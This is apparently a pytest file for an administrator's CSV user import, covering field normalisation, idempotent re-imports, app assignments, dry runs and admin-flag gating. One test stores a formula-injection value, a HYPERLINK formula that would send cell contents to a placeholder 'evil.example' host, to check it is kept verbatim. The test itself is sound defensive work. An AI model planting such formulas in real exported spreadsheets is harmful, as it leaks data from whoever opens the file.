"""CSV user import: the administrator's happy paths."""

from __future__ import annotations

from shared.audit import EventType
from shared.sync_contract import compute_sync_hash
from tests.directory.sync_support import get_sync, ids
from tests.directory.test_import_support import (
    audit_events,
    counts,
    csv_bytes,
    upload,
    user_by_email,
)
from tests.factories import make_app_with_key, make_application, make_user

ROWS = [
    ["Ann Lee", "Ann.Lee@Example.com", "(415) 555-0101", "E-1", ""],
    ["Bo Chen", "bo@example.com", "", "E-2", ""],
    ["Cy Diaz", "", "+1 415 555 0103", "", ""],
]


def test_import_creates_users_with_normalised_fields(admin, runtime):
    response = upload(admin, csv_bytes(ROWS))

    assert response.status_code == 200, response.text
    assert response.json() == {
        "created": 3,
        "updated": 0,
        "unchanged": 0,
        "assignments_added": 0,
        "errors": [],
        "ignored_columns": [],
        "dry_run": False,
        "rows": [],  # listed for dry runs only
        "rows_truncated": False,
    }
    ann = user_by_email(admin, "ann.lee@example.com")
    assert ann["name"] == "Ann Lee"
    assert ann["mobile_number"] == "+14155550101"
    assert ann["emp_id"] == "E-1"
    assert ann["status"] == "active" and ann["is_admin"] is False
    assert ann["sync_hash"] == compute_sync_hash(ann)
    (event,) = audit_events(runtime, EventType.ADMIN_USERS_IMPORTED)
    assert event["details"]["created"] == 3 and event["details"]["filename"] == "users.csv"


def test_reimporting_the_same_file_changes_nothing(admin, runtime):
    assert upload(admin, csv_bytes(ROWS)).status_code == 200
    before = user_by_email(admin, "bo@example.com")

    again = upload(admin, csv_bytes(ROWS))

    assert again.status_code == 200, again.text
    assert again.json()["created"] == 0
    assert again.json()["updated"] == 0
    assert again.json()["unchanged"] == 3
    assert user_by_email(admin, "bo@example.com") == before


def test_modified_rows_update_matched_users(admin):
    assert upload(admin, csv_bytes(ROWS)).status_code == 200
    ann_before = user_by_email(admin, "ann.lee@example.com")
    modified = [
        ["Ann Lee-Smith", "ann.lee@example.com", "", "E-1", ""],  # matched by email
        ["Cy Diaz", "cy@example.com", "4155550103", "E-3", ""],  # matched by mobile
        ROWS[1],
    ]

    response = upload(admin, csv_bytes(modified))

    assert response.status_code == 200, response.text
    assert response.json()["updated"] == 2 and response.json()["unchanged"] == 1
    ann = user_by_email(admin, "ann.lee@example.com")
    assert ann["name"] == "Ann Lee-Smith"
    # An empty cell keeps what the directory has.
    assert ann["mobile_number"] == "+14155550101"
    assert ann["auth_user_id"] == ann_before["auth_user_id"]
    assert ann["sync_hash"] == compute_sync_hash(ann) != ann_before["sync_hash"]
    assert ann["updated_at"] > ann_before["updated_at"]
    cy = user_by_email(admin, "cy@example.com")
    assert (cy["mobile_number"], cy["emp_id"]) == ("+14155550103", "E-3")


def test_applications_are_added_never_removed(admin):
    crm, key = make_app_with_key(admin, name="CRM")
    wiki = make_application(admin, name="Wiki")
    rows = [["Ann Lee", "ann@example.com", "", "", "crm; Wiki"]]
    first = upload(admin, csv_bytes(rows))
    assert first.status_code == 200, first.text
    assert first.json()["assignments_added"] == 2

    second = upload(admin, csv_bytes([["Ann Lee", "ann@example.com", "", "", "Wiki"]]))

    assert second.json()["unchanged"] == 1 and second.json()["assignments_added"] == 0
    ann = user_by_email(admin, "ann@example.com")
    assert {a["id"] for a in ann["applications"]} == {crm["id"], wiki["id"]}
    assert ids(get_sync(admin, key).json()["users"]) == {ann["auth_user_id"]}


def test_assigning_an_existing_user_reaches_the_apps_sync(admin):
    _, key = make_app_with_key(admin, name="Payroll")
    user = make_user(admin, email="dee@example.com", name="Dee")
    assert get_sync(admin, key).json()["users"] == []

    response = upload(admin, csv_bytes([["Dee", "dee@example.com", "", "", "Payroll"]]))

    assert response.json()["updated"] == 1 and response.json()["assignments_added"] == 1
    assert ids(get_sync(admin, key).json()["users"]) == {user["auth_user_id"]}


def test_dry_run_reports_counts_and_writes_nothing(admin, runtime):
    make_application(admin, name="CRM")
    before = counts(runtime)

    response = upload(admin, csv_bytes([[*ROWS[0][:4], "CRM"], *ROWS[1:]]), dry_run=True)

    assert response.status_code == 200, response.text
    assert response.json()["created"] == 3 and response.json()["assignments_added"] == 1
    assert response.json()["dry_run"] is True
    assert counts(runtime) == before
    assert audit_events(runtime, EventType.ADMIN_USERS_IMPORTED) == []


def test_unknown_columns_are_ignored_and_reported(admin):
    header = ["Name", "Email", "Department", "Mobile", "Employee ID", ""]
    content = csv_bytes([["Ann", "ann@example.com", "Sales", "", "E-1", ""]], header)

    response = upload(admin, content)

    assert response.status_code == 200, response.text
    assert response.json()["ignored_columns"] == ["Department"]
    assert user_by_email(admin, "ann@example.com")["emp_id"] == "E-1"


def test_is_admin_is_ignored_unless_allowed(admin):
    header = ["name", "email", "is_admin"]
    content = csv_bytes([["Root", "root@example.com", "true"]], header)

    plain = upload(admin, content)
    assert plain.json()["ignored_columns"] == ["is_admin"]
    assert user_by_email(admin, "root@example.com")["is_admin"] is False

    allowed = upload(admin, content, allow_admin=True)
    assert allowed.status_code == 200, allowed.text
    assert allowed.json()["updated"] == 1 and allowed.json()["ignored_columns"] == []
    assert user_by_email(admin, "root@example.com")["is_admin"] is True


def test_formula_like_values_are_stored_verbatim(admin):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        [name, "formula@example.com", "", "+SUM(1)", ""],
        ["@cmd", "at@example.com", "", "-2", ""],
    ]

    assert upload(admin, csv_bytes(rows)).status_code == 200

    user = user_by_email(admin, "formula@example.com")
    got = admin.get(f"/directory/users/{user['auth_user_id']}").json()
    assert got["name"] == name and got["emp_id"] == "+SUM(1)"
    assert user_by_email(admin, "at@example.com")["name"] == "@cmd"


def test_utf8_with_byte_order_mark_and_non_ascii_names(admin):
    content = "\ufeff".encode() + csv_bytes([["Zoë Ångström-李", "zoe@example.com", "", "", ""]])

    response = upload(admin, content)

    assert response.status_code == 200, response.text
    assert user_by_email(admin, "zoe@example.com")["name"] == "Zoë Ångström-李"


def test_semicolon_separated_files_from_spreadsheets(admin):
    make_application(admin, name="CRM")
    make_application(admin, name="Wiki")
    content = b'name;email;applications\r\nAnn;ann@example.com;"CRM;Wiki"\r\n'

    response = upload(admin, content)

    assert response.status_code == 200, response.text
    apps = user_by_email(admin, "ann@example.com")["applications"]
    assert sorted(a["name"] for a in apps) == ["CRM", "Wiki"]
